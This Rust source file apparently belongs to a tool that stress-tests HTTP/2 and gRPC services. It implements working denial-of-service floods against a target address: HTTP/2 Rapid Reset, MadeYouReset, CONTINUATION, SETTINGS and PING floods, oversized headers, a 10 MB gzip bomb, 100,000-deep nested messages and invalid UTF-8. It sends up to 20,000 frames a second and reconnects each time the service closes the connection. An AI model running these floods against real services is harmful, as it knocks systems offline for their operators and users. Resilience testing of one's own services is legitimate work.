//! Attacks that send a lot.

use std::io::Write as _;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Context as _;
use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::time::{Instant, MissedTickBehavior, interval};

use super::{Attack, Done};
use crate::frames::{self, call, evaluate_headers, frame, message};
use crate::peer::Peer;

/// How often a flood sends.
const TICK: Duration = Duration::from_millis(1);
/// Ticks a second.
const TICKS_PER_S: u32 = 1_000;

/// What a flood is made of.
struct Flood {
    /// How many a second.
    per_s: u32,
    /// What these are, in words.
    what: &'static str,
    /// Whether the attacker reads what the service sends.
    reads: bool,
    headers: Vec<u8>,
    framed: Vec<u8>,
}

impl Flood {
    fn of(attack: Attack) -> anyhow::Result<Self> {
        let plain = || evaluate_headers(&[]);
        let frames = |per_s, what, reads| Self { per_s, what, reads, headers: plain(), framed: Vec::new() };
        let calls = |per_s, what, framed| Self { per_s, what, reads: true, headers: plain(), framed };
        Ok(match attack {
            Attack::RapidReset => frames(10_000, "calls begun and reset", true),
            Attack::MadeYouReset => frames(10_000, "calls to be reset", true),
            Attack::ContinuationFlood => frames(5_000, "KB of headers without an end", true),
            Attack::SettingsFlood => frames(20_000, "SETTINGS", false),
            Attack::PingFlood => frames(20_000, "PINGs", false),
            Attack::LargeHeaders => {
                let headers = evaluate_headers(&[("x-large", &"a".repeat(20_000))]);
                Self { headers, ..frames(1_000, "calls with 20 KB of headers", true) }
            }
            Attack::GzipBomb => {
                let headers = evaluate_headers(&[("grpc-encoding", "gzip")]);
                Self {
                    headers,
                    ..calls(1_000, "calls with 10 MB packed into 10 KB", message(true, &bomb()?))
                }
            }
            // The beginnings of groups, none of which ends; the field is one that nobody knows.
            Attack::NestedMessage => {
                calls(100, "calls nested 100,000 times", message(false, &[0xfb, 0x7f].repeat(100_000)))
            }
            // The account.
            Attack::InvalidUtf8 => {
                calls(2_000, "calls with bad UTF-8", message(false, &[0x0a, 3, 0xff, 0xfe, 0xc0]))
            }
            Attack::LargeMessage => calls(50, "calls of 8 MB", message(false, &vec![0; 8_000_000])),
            _ => frames(10_000, "calls begun and never ended", true),
        })
    }

    /// Appends one more, on a stream of its own if it needs one.
    fn one(&self, attack: Attack, stream: u32, out: &mut Vec<u8>) {
        let (start, end) = (0, frames::END_HEADERS);
        match attack {
            Attack::RapidReset => {
                frame(out, frames::HEADERS, end, stream, &self.headers);
                frame(out, frames::RST_STREAM, start, stream, &frames::CANCEL.to_be_bytes());
            }
            Attack::MadeYouReset => {
                frame(out, frames::HEADERS, end, stream, &self.headers);
                // A window must not be enlarged by nothing (RFC 9113, 6.9).
                frame(out, frames::WINDOW_UPDATE, start, stream, &[0; 4]);
            }
            Attack::ContinuationFlood if stream == 1 => {
                frame(out, frames::HEADERS, start, 1, &self.headers);
            }
            Attack::ContinuationFlood => {
                let block = frames::evaluate_headers(&[("x-flood", &"a".repeat(800))]);
                frame(out, frames::CONTINUATION, start, 1, &block);
            }
            Attack::SettingsFlood => frame(out, frames::SETTINGS, start, 0, &[]),
            Attack::PingFlood => frame(out, frames::PING, start, 0, &[0; 8]),
            Attack::LargeHeaders => {
                let (first, rest) = self.headers.split_at(self.headers.len().min(16_000));
                frame(out, frames::HEADERS, start, stream, first);
                frame(out, frames::CONTINUATION, end, stream, rest);
            }
            Attack::GzipBomb | Attack::NestedMessage | Attack::InvalidUtf8 | Attack::LargeMessage => {
                call(out, stream, &self.headers, &self.framed);
            }
            _ => frame(out, frames::HEADERS, end, stream, &self.headers),
        }
    }
}

/// Ten million zeros.
fn bomb() -> anyhow::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![0; 10_000_000]).context("nothing can be packed")?;
    encoder.finish().context("nothing can be packed")
}

/// Floods a service until then, on one connection, and on another one as soon as the service ends it.
pub(super) async fn flood(attack: Attack, address: SocketAddr, until: Instant) -> anyhow::Result<Done> {
    let flood = Flood::of(attack)?;
    let mut ticks = interval(TICK);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let (mut sent, mut connections, mut ended) = (0u64, 0u64, 0u64);
    let mut owed = 0;
    let mut bytes = Vec::new();
    while Instant::now() < until {
        let mut peer = Peer::connect(address).await.context("cannot connect")?;
        connections += 1;
        if flood.reads {
            peer.read();
        }
        if peer.begin(65_535).await.is_err() {
            continue;
        }
        let mut stream = 1;
        while Instant::now() < until && !peer.is_over() && stream < 1 << 30 {
            ticks.tick().await;
            owed += flood.per_s;
            bytes.clear();
            let count = owed / TICKS_PER_S;
            owed %= TICKS_PER_S;
            for _ in 0..count {
                flood.one(attack, stream, &mut bytes);
                stream += 2;
            }
            if !peer.send(&bytes, until).await {
                break;
            }
            sent += u64::from(count);
        }
        ended += u64::from(peer.is_over());
    }
    let what = format!("{sent} {}; {ended} of {connections} connections ended", flood.what);
    Ok(Done { connections, what, failures: Vec::new() })
}
